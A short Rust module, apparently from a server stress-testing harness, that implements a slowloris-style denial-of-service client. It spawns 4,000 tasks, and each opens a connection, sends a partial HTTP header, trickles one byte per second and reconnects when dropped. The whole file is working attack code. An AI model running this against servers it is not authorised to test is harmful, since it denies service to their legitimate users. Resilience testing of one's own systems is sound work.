//! Clients that send the head of a request byte by byte, one a second, and come again when they are let go.

use std::sync::Arc;

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;

use super::attack::Attack;
use super::each_second;

/// How many.
const CLIENTS: u64 = 4_000;

/// Starts them.
pub fn start(attack: &Arc<Attack>) {
    for _ in 0..CLIENTS {
        let attack = attack.clone();
        tokio::spawn(async move {
            let mut seconds = each_second();
            loop {
                seconds.tick().await;
                if send(&attack).await.is_err() {
                    attack.count("let go");
                }
            }
        });
    }
}

async fn send(attack: &Arc<Attack>) -> Result<()> {
    let mut connection = attack.connect(CLIENTS).await?;
    connection.tcp.write_all(b"GET /healthz HTTP/1.1\r\nHost: slow\r\nX-Slow: ").await?;
    let mut seconds = each_second();
    loop {
        seconds.tick().await;
        connection.tcp.write_all(b"x").await?;
    }
}
